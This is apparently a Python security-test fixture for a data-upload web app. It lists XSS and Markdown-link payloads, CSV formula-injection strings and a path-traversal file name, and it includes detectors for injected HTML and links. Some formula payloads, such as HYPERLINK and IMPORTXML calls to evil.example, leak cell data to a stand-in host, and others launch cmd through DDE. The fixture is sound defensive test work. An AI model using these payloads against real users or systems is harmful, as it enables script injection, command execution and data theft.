"""Hostile inputs shared by the security tests: script, Markdown and formula payloads, and an
upload (framework + values) that carries them in every free-text field a person controls."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

from markdown_it import MarkdownIt

from indicators.uploads import UploadedFile

# Script and markup payloads (XSS cheat-sheet classics and Markdown links/images).
SCRIPT_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "[pay here](https://evil.example/pay)",
    "![pixel](https://evil.example/pixel.png)",
    "<https://evil.example/auto>",
    "<iframe src=javascript:alert(1)></iframe>",
    ":red[coloured] $x^2$ **bold**",
    # Bare URLs and e-mail addresses: GitHub-flavoured Markdown links them without any markup,
    # and Streamlit's renderer does so after backslash escapes are read (issue #18).
    "www.evil.example/bare",
    "see http://evil.example/bare now",
    "(HTTPS://evil.example/upper)",
    "mail user@evil.example",
]
# OWASP CSV injection payloads, plus full-width and leading-space variants.
FORMULA_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20SUM(1+1)",  # full-width @
]
# A line break inside a cell must stay inside it (quoted), or the rest becomes a new row.
EMBEDDED_BREAKS = ["x\r=1+1", "x\n=1+1", "x\r\n@SUM(1+1)"]
MARKERS = ("alert(1)", "evil.example", "onerror", "onload")

# Upload file names a browser can send (no "/" on most systems, but a client can send anything).
HOSTILE_VALUES_NAME = "v<img src=x onerror=alert(1)>[x](https:evil.example).csv"
HOSTILE_FRAMEWORK_NAME = "../../etc/passwd<script>alert(1)</script>.csv"


def hostile_upload() -> tuple[UploadedFile, UploadedFile]:
    """(values, framework): two indicators in two dimensions whose names and units are script
    payloads, and values whose notes are script and formula payloads; every row is valid."""
    framework = io.StringIO()
    writer = csv.writer(framework, lineterminator="\n")
    writer.writerow(["indicator", "dimension", "direction", "weight", "name", "unit"])
    writer.writerow(
        [
            "ind_a",
            "media",
            1,
            1,
            SCRIPT_PAYLOADS[0] + " www.evil.example",
            "[u](https://evil.example)",
        ]
    )
    writer.writerow(
        [
            "ind_b",
            "culture",
            1,
            1,
            SCRIPT_PAYLOADS[2] + " http://evil.example/b",
            FORMULA_PAYLOADS[6],
        ]
    )
    values = io.StringIO()
    writer = csv.writer(values, lineterminator="\n")
    writer.writerow(["iso3", "indicator", "year", "value", "note"])
    notes = SCRIPT_PAYLOADS + FORMULA_PAYLOADS
    countries = ["RUS", "CHN", "USA", "DEU", "FRA", "TUR", "BRA", "IND", "JPN", "NAM"]
    for i, iso3 in enumerate(countries):
        writer.writerow([iso3, "ind_a", 2022, 10 * i, notes[(2 * i) % len(notes)]])
        writer.writerow([iso3, "ind_b", 2022, (7 * i) % 10, notes[(2 * i + 1) % len(notes)]])
    return (
        UploadedFile(HOSTILE_VALUES_NAME, values.getvalue().encode()),
        UploadedFile(HOSTILE_FRAMEWORK_NAME, framework.getvalue().encode()),
    )


# ---- what a renderer would make of text
_MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_MARKDOWN.validateLink = lambda url: True  # see every link, even the ones a renderer drops


def markdown_dangers(source: str) -> list[str]:
    """What Markdown `source` would render that user text must never produce: links or images
    to the payloads' hosts or javascript:, raw HTML, bare URLs, Streamlit colour directives."""
    rendered = _MARKDOWN.render(source)
    found = re.findall(r"<(?:a|img)\b[^>]*(?:evil\.example|javascript:)[^>]*>", rendered)
    found += [t.content for t in _tokens(source) if t.type in ("html_inline", "html_block")]
    plain = re.sub(r"\\.", "", source)  # escaped characters are literal
    found += re.findall(r":red\[", plain)
    found += autolink_literals(source)
    return found


def as_shown(source: str) -> str:
    """What a person reads of escaped Markdown text: the backslashes and the invisible word
    joiners (views.text.md) gone."""
    return re.sub(r"\\(.)", r"\1", source).replace("\u2060", "")


# GitHub-flavoured Markdown's autolink literals as Streamlit's renderer (remark-gfm, through
# mdast-util-gfm-autolink-literal) finds them: in the text after backslash escapes are read, a
# URL or e-mail address starting at the start, after white space or after punctuation or a symbol.
_URL_LITERAL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE)
_EMAIL_LITERAL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")


def autolink_literals(source: str) -> list[str]:
    """Bare URLs and e-mail addresses in Markdown `source` that would become links."""
    import unicodedata

    text = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", source)  # escapes read, as the renderer does

    def after_boundary(start: int) -> bool:
        before = text[start - 1] if start else ""
        return not before or before.isspace() or unicodedata.category(before)[0] in "PS"

    found = []
    for match in _URL_LITERAL.finditer(text):
        domain = match.group(2) if match.group(1).lower() != "www" else "www" + match.group(2)
        if after_boundary(match.start()) and "." in domain.strip("."):
            found.append(match.group())
    for match in _EMAIL_LITERAL.finditer(text):
        start = match.start() + len(match.group(1)) - len(match.group(1).lstrip("-.+_"))
        if after_boundary(match.start()) or after_boundary(start):
            found.append(match.group())
    return found


def _tokens(source: str):
    for token in _MARKDOWN.parse(source):
        yield token
        yield from token.children or []


class ElementCollector(HTMLParser):
    """Every start tag and its attributes, to look for injected elements."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def injected_elements(document: str) -> list[str]:
    """Elements or attributes in an HTML document that only a payload would create: scripts or
    iframes mentioning a marker, on* handlers mentioning one, javascript: URLs, svg/img from
    payloads."""
    parser = ElementCollector()
    parser.feed(document)
    found = []
    for tag, attrs in parser.elements:
        for name, value in attrs.items():
            text = value or ""
            if name.startswith("on") and any(marker in text for marker in MARKERS):
                found.append(f"<{tag} {name}={text!r}>")
            if name in ("href", "src", "xlink:href") and (
                text.strip().lower().startswith("javascript:") or "evil.example" in text
            ):
                found.append(f"<{tag} {name}={text!r}>")
        if tag in ("iframe", "foreignobject"):
            found.append(f"<{tag}>")
        if tag == "img" and attrs.get("src") == "x":
            found.append("<img src=x>")
        if tag == "svg" and "onload" in attrs:
            found.append("<svg onload>")
    # A payload's own script element: its body is the payload's code.
    found += re.findall(r"<script[^>]*>\s*alert\(1\)", document, flags=re.IGNORECASE)
    return found
